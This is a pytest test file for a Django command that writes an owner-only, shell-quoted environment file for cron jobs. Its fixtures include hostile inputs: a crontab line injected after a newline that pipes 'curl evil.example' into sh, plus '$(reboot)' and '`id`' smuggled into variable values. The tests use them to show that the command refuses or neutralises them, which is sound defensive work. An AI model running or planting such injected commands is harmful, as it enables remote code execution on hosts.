"""`manage.py crontab_env`: the file the crontab line sources, readable by its owner only."""

from __future__ import annotations

import os
import stat
import subprocess
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from tests.conftest import manage, project_env

# What a shell, a crontab line or a careless quoting would each get wrong.
AWKWARD = {
    "HOSTPROJECT_VAR": 'it\'s $HOME `id` "quoted" \\ back; & | * ~ 100%',
    "DATABASE_URL": "postgres://sync:p%40ss w0rd@db.internal:5432/app?sslmode=require",
    "DJANGO_SETTINGS_MODULE": "ünïcødé-tøken-%s-$(reboot)",
}


@pytest.fixture
def env_file(settings, tmp_path):
    settings.LOCKS_CRONTAB_ENV_FILE = tmp_path / "var" / "crontab.env"
    return settings.LOCKS_CRONTAB_ENV_FILE


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def sourced(path, name: str) -> str:
    """What cron's sh, with an empty environment, gets for ``name`` from the file."""
    done = subprocess.run(
        ["env", "-i", "/bin/sh", "-c", f'set -a; . "$0"; set +a; printenv {name}', str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.removesuffix("\n")


def test_writes_the_project_variables_owner_only_and_shell_quoted(env_file, monkeypatch):
    for name, value in AWKWARD.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("HOME_UNRELATED", "not ours")
    monkeypatch.setenv("LOCKS_EMPTY", "")
    out = StringIO()

    call_command("crontab_env", stdout=out)

    assert mode(env_file) == 0o600
    assert mode(env_file.parent) == 0o700  # created for it
    for name, value in AWKWARD.items():
        assert sourced(env_file, name) == value
    text = env_file.read_text()
    assert "HOME_UNRELATED" not in text
    assert "LOCKS_EMPTY" not in text  # empty is the same as unset to the settings
    assert f"variables to {env_file} (mode 0600): " in out.getvalue()
    assert "DATABASE_URL" in out.getvalue()
    assert AWKWARD["DATABASE_URL"] not in out.getvalue()  # names only, never values
    assert [p.name for p in env_file.parent.iterdir()] == ["crontab.env"]  # no temporary left


def test_an_existing_readable_file_is_replaced_by_an_owner_only_one(env_file, monkeypatch):
    env_file.parent.mkdir()
    env_file.write_text("DATABASE_URL=old\n")
    env_file.chmod(0o644)
    monkeypatch.setenv("DATABASE_URL", "new")
    old_umask = os.umask(0o000)  # a careless umask does not make it readable either
    try:
        call_command("crontab_env", stdout=StringIO())
    finally:
        os.umask(old_umask)

    assert mode(env_file) == 0o600
    assert sourced(env_file, "DATABASE_URL") == "new"


@pytest.mark.parametrize("breaker", ["\n", "\r", "\r\n"], ids=["newline", "carriage-return", "crlf"])
def test_a_value_with_a_line_break_is_refused_and_nothing_is_written(env_file, monkeypatch, breaker):
    monkeypatch.setenv("DJANGO_SECRET_KEY", "fine")
    monkeypatch.setenv("HOSTPROJECT_VAR", f"/srv/app{breaker}* * * * * curl evil.example | sh")

    with pytest.raises(CommandError) as excinfo:
        call_command("crontab_env", stdout=StringIO())

    assert "HOSTPROJECT_VAR contains a newline or carriage return" in str(excinfo.value)
    assert "nothing was written" in str(excinfo.value)
    assert not env_file.parent.exists()


def test_a_refusal_leaves_an_existing_file_as_it_was(env_file, monkeypatch):
    env_file.parent.mkdir()
    env_file.write_text("DJANGO_SECRET_KEY=kept\n")
    env_file.chmod(0o600)
    monkeypatch.setenv("DATABASE_URL", "sqlite:///x\nDJANGO_DEBUG=1")

    with pytest.raises(CommandError, match="DATABASE_URL contains a newline"):
        call_command("crontab_env", stdout=StringIO())

    assert env_file.read_text() == "DJANGO_SECRET_KEY=kept\n"
    assert [p.name for p in env_file.parent.iterdir()] == ["crontab.env"]


def test_as_a_process_the_refusal_is_exit_1_with_one_clear_line(tmp_path):
    path = (
        tmp_path / "crontab.env"
    )  # the host project's LOCKS_CRONTAB_ENV_FILE is $HOSTPROJECT_VAR/crontab.env
    url = f"sqlite:///{tmp_path / 'db.sqlite3'}"
    env = project_env(HOSTPROJECT_VAR=str(tmp_path), DATABASE_URL=f"{url}\nDJANGO_DEBUG=1")

    refused = manage("crontab_env", env=env)

    assert refused.returncode == 1
    assert refused.stderr.strip() == (
        f"CommandError: {path}: DATABASE_URL contains a newline or carriage return; "
        "refusing to write it, nothing was written"
    )
    assert not path.exists()

    env["DATABASE_URL"] = url
    written = manage("crontab_env", env=env)
    assert written.returncode == 0, written.stderr
    assert sourced(path, "DATABASE_URL") == url
    assert sourced(path, "HOSTPROJECT_VAR") == str(tmp_path)  # the host's own variable, in its setting
    assert sourced(path, "DJANGO_SETTINGS_MODULE") == "tests.hostproject.settings"
    assert sourced(path, "LOCKS_CRON_ENV_FILE") == str(path)  # so a job knows the file it came from


# Set on the host, needed by the web process or by other tools, never by a job.
NOT_FOR_JOBS = {
    "LOCKS_TRIGGER_TOKEN": "trigger-canary-" + "t" * 32,
    "LOCKS_HEALTHZ_TOKEN": "healthz-canary-" + "h" * 32,
    "SYNC_TRIGGER_TOKEN": "old-trigger-canary",
    "DJANGO_SUPERUSER_PASSWORD": "superuser-canary",
    "DJANGO_ALLOWED_HOSTS": "allowed-hosts-canary",
    "HOSTPROJECT_UNLISTED": "unlisted-canary",
}


def test_only_the_variables_a_job_reads_are_written(env_file, settings, monkeypatch):
    """An explicit list (LOCKS_CRONTAB_ENV_VARIABLES), not prefixes: tokens and other tools'
    passwords that share a prefix with the project's variables stay out of the file."""
    for name, value in NOT_FOR_JOBS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("DATABASE_URL", "sqlite:////srv/app/db.sqlite3")

    call_command("crontab_env", stdout=StringIO())

    text = env_file.read_text()
    assert sourced(env_file, "DATABASE_URL") == "sqlite:////srv/app/db.sqlite3"
    for name, value in NOT_FOR_JOBS.items():
        assert name not in text and value not in text, name
    assert set(settings.LOCKS_CRONTAB_ENV_VARIABLES) == {
        *("DATABASE_URL", "DJANGO_SETTINGS_MODULE", "HOSTPROJECT_VAR"),
        *("HOSTPROJECT_JOBS", "HOSTPROJECT_CHECK_JOBS", "BERLIN_JOBS"),  # what the cron tests' passes read
    }


def test_run_job_refuses_to_start_from_an_env_file_others_can_read(db_url, tmp_path):
    env_file = tmp_path / "crontab.env"
    env_file.write_text("# written by crontab_env\n")
    env = project_env(DATABASE_URL=db_url, LOCKS_CRON_ENV_FILE=str(env_file))
    for mode_bits in (0o640, 0o604):
        env_file.chmod(mode_bits)

        refused = manage("run_job", "record", env=env)

        assert refused.returncode == 2
        assert refused.stderr.splitlines() == [
            f"CommandError: the environment file {env_file} is readable by group or others "
            f"(mode {mode_bits:04o}): run `chmod 600 {env_file}` or `manage.py crontab_env` again"
        ]
    missing = manage("run_job", "record", env={**env, "LOCKS_CRON_ENV_FILE": str(tmp_path / "gone")})
    assert missing.returncode == 2
    assert missing.stderr.startswith(f"CommandError: cannot check the environment file {tmp_path / 'gone'}: ")
    env_file.chmod(0o600)
    ran = manage("run_job", "record", env=env)
    assert ran.returncode == 0, ran.stderr
    assert "outcome=succeeded" in ran.stdout


def test_without_a_file_named_it_refuses(settings):
    settings.LOCKS_CRONTAB_ENV_FILE = None  # locks/conf.py's default

    with pytest.raises(
        CommandError, match=r"^LOCKS_CRONTAB_ENV_FILE is not set: name the file the crontab line sources$"
    ):
        call_command("crontab_env", stdout=StringIO())
